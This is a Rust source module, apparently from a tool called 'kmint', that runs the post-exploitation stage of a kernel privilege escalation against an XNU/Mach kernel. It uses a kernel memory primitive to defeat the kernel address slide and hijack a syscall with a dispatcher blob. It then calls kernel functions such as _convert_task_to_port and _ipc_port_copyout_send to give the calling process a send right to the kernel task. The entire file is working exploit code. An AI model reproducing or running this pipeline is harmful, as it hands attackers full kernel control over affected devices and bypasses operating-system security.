//! The escalation pipeline: slide discovery, syscall hijack, and minting of
//! a send right to the kernel task.

use crate::error::{Error, Result};
use crate::hook::{SyscallHook, SyscallInvoker, HOOK_SYSCALL_CODE};
use crate::image::{ImageContext, KernelImage};
use crate::mem::{KernelMemory, WORD_SIZE};
use crate::slide::{probe_kernel_slide, SystemQuery};

/// A send right referencing the kernel task, minted at most once per
/// process. Opaque: the raw name is only meaningful to IPC traps.
#[derive(Debug, PartialEq, Eq)]
pub struct Capability(u64);

impl Capability {
    pub fn as_raw(&self) -> u64 {
        self.0
    }
}

/// Sequences the whole pipeline and owns every piece of local state:
/// the memory primitive, the image context (created unslid), the syscall
/// hook, and the precompiled dispatcher blob.
///
/// `run` consumes the bootstrap, so the capability cannot be minted twice,
/// and cleanup (hook removal, primitive deinit) happens exactly once on
/// every exit path.
pub struct Bootstrap<M, I, Q, S>
where
    M: KernelMemory,
{
    mem: M,
    image: ImageContext<I>,
    query: Q,
    invoker: S,
    hook: SyscallHook,
    dispatcher: Vec<u8>,
    cleaned_up: bool,
}

impl<M, I, Q, S> Bootstrap<M, I, Q, S>
where
    M: KernelMemory,
    I: KernelImage,
    Q: SystemQuery,
    S: SyscallInvoker,
{
    /// `dispatcher` is the precompiled code blob that forwards the hooked
    /// syscall's arguments to an arbitrary kernel function and returns its
    /// result; this crate treats it as opaque bytes.
    pub fn new(mem: M, image: I, query: Q, invoker: S, dispatcher: Vec<u8>) -> Self {
        Bootstrap {
            mem,
            // Unslid for now, so bootstrap lookups return static addresses.
            image: ImageContext::new(image),
            query,
            invoker,
            hook: SyscallHook::new(HOOK_SYSCALL_CODE),
            dispatcher,
            cleaned_up: false,
        }
    }

    /// Run the pipeline to completion and mint the capability.
    pub fn run(mut self) -> Result<Capability> {
        let result = self.escalate();
        self.cleanup();
        result
    }

    /// Like `run`, but on failure emit a single diagnostic line to stderr
    /// and terminate the process with exit status 1. Nothing in the pipeline
    /// is recoverable, so this is the expected entry point.
    pub fn run_or_exit(self) -> Capability {
        match self.run() {
            Ok(capability) => capability,
            Err(err) => {
                eprintln!("kmint: {}", err);
                std::process::exit(1);
            }
        }
    }

    fn escalate(&mut self) -> Result<Capability> {
        self.mem.init()?;
        // Find the slide, then reload the image context so every lookup
        // from here on returns runtime addresses.
        let slide = probe_kernel_slide(&mut self.mem, &self.image, &self.query)?;
        self.image.set_slide(slide);
        self.hook
            .install(&mut self.mem, &self.image, &self.dispatcher)?;

        // Resolve everything needed for the escalation before making any
        // kernel call.
        let kernel_task = self.image.resolve_symbol("_kernel_task")?;
        let task_reference = self.image.resolve_symbol("_task_reference")?;
        let convert_task_to_port = self.image.resolve_symbol("_convert_task_to_port")?;
        let get_task_ipcspace = self.image.resolve_symbol("_get_task_ipcspace")?;
        let current_task = self.image.resolve_symbol("_current_task")?;
        let ipc_port_copyout_send = self.image.resolve_symbol("_ipc_port_copyout_send")?;

        // The kernel task object pointer.
        let kernel_task_ptr = self.mem.read(kernel_task, WORD_SIZE)?;
        // Our own task and its IPC space.
        let our_task = self.call(current_task, &[])?;
        let space = self.call(get_task_ipcspace, &[our_task])?;
        // Take a reference on the kernel task and wrap it in a port.
        self.call(task_reference, &[kernel_task_ptr])?;
        let send_right = self.call(convert_task_to_port, &[kernel_task_ptr])?;
        // Copy the send right into our IPC space.
        let name = self.call(ipc_port_copyout_send, &[send_right, space])?;
        if name == 0 {
            return Err(Error::CapabilityMintFailed);
        }
        log::debug!("Kernel task port name = {:#x}", name);
        Ok(Capability(name))
    }

    fn call(&mut self, func: u64, args: &[u64]) -> Result<u64> {
        self.hook.kernel_call(&mut self.invoker, func, args)
    }
}

impl<M, I, Q, S> Bootstrap<M, I, Q, S>
where
    M: KernelMemory,
{
    /// Best-effort teardown: remove the hook if installed, then release the
    /// memory primitive. Guarded so a failure surfacing while we are already
    /// cleaning up cannot re-enter this path.
    fn cleanup(&mut self) {
        if self.cleaned_up {
            return;
        }
        self.cleaned_up = true;
        if let Err(err) = self.hook.remove(&mut self.mem) {
            log::error!("Failed to remove syscall hook: {}", err);
        }
        self.mem.deinit();
    }
}

impl<M, I, Q, S> Drop for Bootstrap<M, I, Q, S>
where
    M: KernelMemory,
{
    fn drop(&mut self) {
        // Backstop for abnormal exits; a completed `run` has already done
        // this and the guard makes it a no-op.
        self.cleanup();
    }
}
